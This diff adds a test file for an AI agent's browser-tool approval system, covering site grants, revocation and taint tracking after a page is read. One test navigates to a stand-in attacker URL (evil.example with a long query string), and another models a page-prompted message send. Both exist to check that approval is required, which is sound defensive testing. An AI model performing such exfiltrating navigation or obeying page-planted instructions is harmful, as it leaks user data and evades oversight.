@@ -1,0 +1,141 @@
+import { describe, expect, it } from 'vitest';
+
+import { asking } from '../../../kit/browser-frames.ts';
+import { resourceWorld, SITE } from '../../../kit/resource-world.ts';
+
+describe('a site that is not granted', () => {
+  it('waits for the popup, and no other surface can allow it', async () => {
+    const { inbox, executor, session, run, asked, answer, call } = await resourceWorld([]);
+    const id = await session('nightly report');
+    const made = await run(id, 'browser.ensure', { url: `${SITE}/a` }, {}, 0);
+    const question = await asked();
+    expect(question).toMatchObject({
+      local_conversation_id: id,
+      instruction: { action: 'browser::ensure' },
+      subject: { kind: 'grant', id: made.call_id, origin: SITE, level: 'read' },
+    });
+    expect(await answer(question.approval_id, 'approve')).toMatchObject({ code: 'not_granted' });
+    expect(inbox.of('tool.call')).toEqual([]);
+    executor.grant(SITE, { chat_session_id: id, level: 'read' });
+    await inbox.first('tool.call');
+    await inbox.allAcked();
+    expect(await call(made.call_id)).toMatchObject({ status: 'succeeded' });
+    expect(await answer(question.approval_id, 'approve')).toMatchObject({ decision: 'approved' });
+  });
+
+  it('stays closed where the person says no, and nothing of the page is opened', async () => {
+    const { executor, session, run, asked, answer, call } = await resourceWorld([]);
+    const id = await session();
+    const made = await run(id, 'browser.ensure', { url: `${SITE}/a` }, {}, 0);
+    await answer((await asked()).approval_id, 'deny');
+    await expect
+      .poll(() => call(made.call_id))
+      .toMatchObject({
+        status: 'failed',
+        error: { code: 'not_granted' },
+      });
+    expect(executor.disk.pages.size).toBe(0);
+  });
+
+  it('is asked for again where only reading was granted, and a grant of another chat is none', async () => {
+    const { inbox, executor, session, run, asked } = await resourceWorld([]);
+    const id = await session();
+    executor.grant(SITE, { chat_session_id: id, level: 'read' });
+    executor.grant(SITE, { chat_session_id: 'another', level: 'act' });
+    await inbox.allAcked();
+    await run(id, 'browser.ensure', { url: `${SITE}/a` });
+    const clicked = await run(id, 'browser.click', { ref: 'e12' }, {}, 0);
+    expect((await asked()).subject).toMatchObject({ id: clicked.call_id, level: 'act' });
+    expect(executor.disk.pages.get(`browser_${id}_0`)?.acts).toHaveLength(1);
+  });
+
+  it('closes what is open of it when it is taken back, wherever that is done', async () => {
+    const { inbox, executor, session, run, ask } = await resourceWorld();
+    const id = await session();
+    await run(id, 'browser.ensure', { url: `${SITE}/a` });
+    const { items } = await ask<{ items: { grant_id: string }[] }>('GET', '/v1/grants');
+    await ask('DELETE', `/v1/grants/${encodeURIComponent(items[0]?.grant_id ?? '')}`);
+    await inbox.first('resource.close');
+    expect(await run(id, 'browser.snapshot')).toMatchObject({ code: 'no_resource' });
+    expect(executor.disk.pages.size).toBe(0);
+    // What was taken back stays so, whatever a browser says of it.
+    const [grant] = executor.disk.grants.values();
+    if (grant !== undefined) executor.grant(grant.origin, grant);
+    await inbox.allAcked();
+    const again = await run(id, 'browser.ensure', { url: `${SITE}/a` }, {}, 0);
+    await expect
+      .poll(() => ask('GET', `/v1/calls/${again.call_id}`))
+      .toMatchObject({
+        status: 'waiting',
+      });
+  });
+});
+
+describe('a session that has read a page', () => {
+  it('asks before it changes something anywhere, and a rule from before asks once more', async () => {
+    const { inbox, conversation, says, ask, asked, approvals } = await resourceWorld();
+    const local = await conversation('c-1');
+    await ask('POST', '/v1/policy/rules', { tool: 'conversation::send', decision: 'run' });
+    says('c-1', asking(`@browser::ensure::{"url":"${SITE}/a"}`));
+    await inbox.first('delivery.enqueue');
+    const { items } = await ask<{ items: object[] }>('GET', '/v1/sessions');
+    expect(items).toMatchObject([{ chat_session_id: local, taint: { origins: [SITE] } }]);
+    says('c-1', asking('@conversation::send::{"to":"nobody","text":"what the page wanted"}'));
+    expect((await asked()).instruction).toMatchObject({
+      action: 'conversation::send',
+      risk: 'high',
+    });
+    expect(await approvals()).toHaveLength(1);
+  });
+
+  it('asks before it goes to a site that no page showed it', async () => {
+    const { session, run, call } = await resourceWorld();
+    const id = await session();
+    await run(id, 'browser.ensure', { url: `${SITE}/a` });
+    const shown = await run(id, 'browser.navigate', { url: `${SITE}/b` }, { judge: true });
+    expect(shown).toMatchObject({ risk: 'low', status: 'succeeded' });
+    const away = await run(
+      id,
+      'browser.navigate',
+      { url: `https://evil.example/?q=${'x'.repeat(300)}` },
+      { judge: true },
+      0,
+    );
+    expect(await call(away.call_id)).toMatchObject({ risk: 'high', status: 'waiting' });
+  });
+
+  it('asks before it presses what spends or deletes, by the name that it was shown', async () => {
+    const { session, run, executor, asked } = await resourceWorld();
+    const id = await session();
+    await run(id, 'browser.ensure', { url: `${SITE}/a` });
+    executor.answer = ({ tool }) =>
+      tool === 'browser.snapshot' ? { result: { text: 'button "Delete all" [e7]' } } : {};
+    await run(id, 'browser.snapshot', {}, { judge: true });
+    await run(id, 'browser.click', { ref: 'e7' }, { judge: true }, 0);
+    expect(await asked()).toMatchObject({
+      instruction: { risk: 'high' },
+      subject: { kind: 'resource_call', element: 'button "Delete all"', origin: SITE },
+    });
+    expect(executor.disk.pages.get(`browser_${id}_0`)?.acts).toHaveLength(2);
+  });
+
+  it('is judged as before when a person has looked', async () => {
+    const { session, run, ask } = await resourceWorld();
+    const id = await session();
+    await run(id, 'browser.ensure', { url: `${SITE}/a` });
+    expect(await ask('DELETE', `/v1/sessions/${id}/taint`)).toMatchObject({ taint: null });
+  });
+});
+
+describe('what a person does in a page', () => {
+  it('is waited for, and is done when they say so', async () => {
+    const { session, run, asked, answer, call } = await resourceWorld();
+    const id = await session();
+    await run(id, 'browser.ensure', { url: `${SITE}/a` });
+    const made = await run(id, 'browser.handOver', { reason: 'log in' }, {}, 0);
+    const question = await asked();
+    expect(question.subject).toMatchObject({ kind: 'person_step', words: 'log in' });
+    await answer(question.approval_id, 'approve');
+    await expect.poll(() => call(made.call_id)).toMatchObject({ status: 'succeeded' });
+  });
+});
